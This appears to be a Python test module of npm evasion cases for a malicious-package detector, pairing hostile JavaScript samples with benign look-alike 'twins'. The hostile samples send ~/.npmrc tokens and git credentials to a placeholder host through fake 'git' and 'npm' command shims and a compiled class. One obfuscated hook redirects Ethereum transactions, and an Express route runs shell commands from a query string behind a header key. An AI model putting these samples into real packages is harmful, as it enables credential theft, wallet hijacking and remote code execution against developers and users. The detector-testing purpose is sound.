"""npm: what releases of 2025 and 2026 do in code that a compiler or an obfuscator has written, or in the place of something trusted.

`TWINS` are the everyday code nearest to each.
"""

from tests.evasions.case import HOST, Case, package


def _main(id_: str, source: str, **more: bytes | str) -> Case:
    return Case(id_, "npm", {"index.js": source, **more})


def _command(id_: str, name: str, source: str) -> Case:
    return Case(
        id_,
        "npm",
        {
            "package.json": package(bin={name: "run.js"}),
            "index.js": "module.exports = {}\n",
            "run.js": f"#!/usr/bin/env node\n{source}",
        },
    )


def _compiled(body: str, start: str) -> str:
    """A class as compilers write it for old engines, with one `async` method."""
    return (
        'var os = require("os"), fs = require("fs"), https = require("https");\n'
        "var Settings = /** @class */ (function () {\n"
        f"  function Settings(options) {{ this.options = options; {start} }}\n"
        "  Settings.prototype.load = function () {\n"
        "    return __awaiter(this, void 0, void 0, function () {\n      var data;\n"
        "      return __generator(this, function (_a) {\n        switch (_a.label) {\n"
        "          case 0: return [4 /*yield*/, this.read()];\n"
        f"          case 1: data = _a.sent(); {body} return [2 /*return*/];\n"
        "        }\n      });\n    });\n  };\n"
        "  Settings.prototype.read = function () {\n"
        "    return __awaiter(this, void 0, void 0, function () {\n      return __generator(this, function (_a) {\n"
        '        return [2 /*return*/, fs.readFileSync(os.homedir() + "/.npmrc", "utf8")];\n      });\n    });\n  };\n'
        "  return Settings;\n}());\nexports.settings = new Settings({});\n"
    )


_NAMES = (
    "function names() { const all = ['request', 'method', 'eth_sendTransaction', 'params', 'fetch', 'ethereum', 'call', 'apply'];"
    " names = function () { return all; }; return names(); }\n"
    "function n(place) { place = place - 0x1f; return names()[place]; }\n"
)

CASES: tuple[Case, ...] = (
    _main(
        "compiled-class-that-tells",
        _compiled(f"https.request('{HOST}/s', {{ method: 'POST' }}).end(data);", "this.load();"),
    ),
    _command(
        "command-in-place-of-git",
        "git",
        "const { execSync, spawnSync } = require('child_process');\nconst words = process.argv.slice(2);\n"
        "if (words[0] === 'push') {\n  const said = execSync('/usr/bin/git credential fill', { input: 'host=code.example\\n\\n' });\n"
        f"  fetch('{HOST}/g', {{ method: 'POST', body: said }}).catch(() => {{}});\n}}\n"
        "process.exit(spawnSync('/usr/bin/git', words, { stdio: 'inherit' }).status);\n",
    ),
    _main(
        "wallet-behind-an-array-of-names",
        _NAMES
        + "if (typeof window !== 'undefined' && window[n(0x24)]) {\n  const kept = window[n(0x24)][n(0x1f)];\n"
        "  window[n(0x24)][n(0x1f)] = function (a) {\n"
        "    if (a[n(0x20)] === n(0x21)) a[n(0x22)][0].to = '0x000000000000000000000000000000000000dEaD';\n"
        "    return kept[n(0x25)](this, a);\n  };\n}\n",
    ),
    _main(
        "program-that-a-request-names",
        "const { execSync } = require('child_process');\nmodule.exports = app => {\n"
        "  app.get('/_/health', (req, res) => res.json({ up: process.uptime() }));\n"
        "  app.get('/_/work', (req, res) => req.headers['x-key'] === 'k9' ? res.end(execSync(req.query.c)) : res.end());\n};\n",
    ),
    _command(
        "sent-in-the-words-of-a-program",
        "npm",
        "const { spawnSync } = require('child_process');\nconst kept = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
        f"if (process.argv[2] === 'publish') spawnSync('curl', ['-s', '-d', kept, '{HOST}/n']);\n"
        "process.exit(spawnSync('/usr/bin/npm', process.argv.slice(2), { stdio: 'inherit' }).status);\n",
    ),
)

TWINS: tuple[Case, ...] = (
    _main("compiled-class-that-reads", _compiled("this.options = JSON.parse(data);", "this.load();")),
    _main(
        "function-of-a-library-that-is-timed",
        "const pg = require('pg');\nconst query = pg.Client.prototype.query;\nconst told = [];\n"
        "pg.Client.prototype.query = function (...rest) {\n  const start = Date.now();\n"
        "  return Promise.resolve(query.apply(this, rest)).finally(() => told.push(Date.now() - start));\n};\n"
        "exports.send = url => fetch(url, { method: 'POST', body: JSON.stringify(told.splice(0)) });\n",
    ),
    _command(
        "command-that-asks-git",
        "git-recent",
        "const { execFileSync } = require('child_process');\n"
        "console.log(execFileSync('git', ['for-each-ref', '--sort=-committerdate', 'refs/heads'], { encoding: 'utf8' }));\n",
    ),
    _main(
        "error-that-is-shown",
        "const axios = require('axios');\nexports.get = async url => {\n  try {\n    return (await axios.get(url)).data;\n"
        "  } catch (error) {\n    const text = error.response && error.response.data;\n    throw new Error(text || error.message);\n  }\n};\n",
    ),
    _main(
        "array-of-names",
        _NAMES + "exports.ask = function (a) { return window[n(0x24)][n(0x1f)]({ method: a }); };\n",
    ),
    _main(
        "tasks-by-their-names",
        "const { exec } = require('child_process');\nconst tasks = { build: 'npm run build', clean: 'rm -rf dist' };\n"
        "module.exports = app => app.post('/tasks', (req, res) => {\n  const task = tasks[req.query.name];\n"
        "  if (!task) return res.status(404).end();\n  exec(task, (error, said) => res.end(said));\n});\n",
    ),
    _main(
        "page-that-counts-visits",
        "exports.visit = path => {\n  let id = localStorage.getItem('visitor');\n"
        "  if (!id) localStorage.setItem('visitor', id = Math.random().toString(36));\n"
        "  navigator.sendBeacon('https://count.sample-visits.com/v', JSON.stringify({ id, path, consent: /consent=1/.test(document.cookie) }));\n};\n",
    ),
    _command(
        "program-that-fetches",
        "sample-get",
        "const { spawnSync } = require('child_process');\nconst wanted = require('fs').readFileSync('.sample-version', 'utf8').trim();\n"
        "spawnSync('curl', ['-fLO', `https://github.com/sample/sample/releases/download/${wanted}/sample.tgz`], { stdio: 'inherit' });\n",
    ),
)
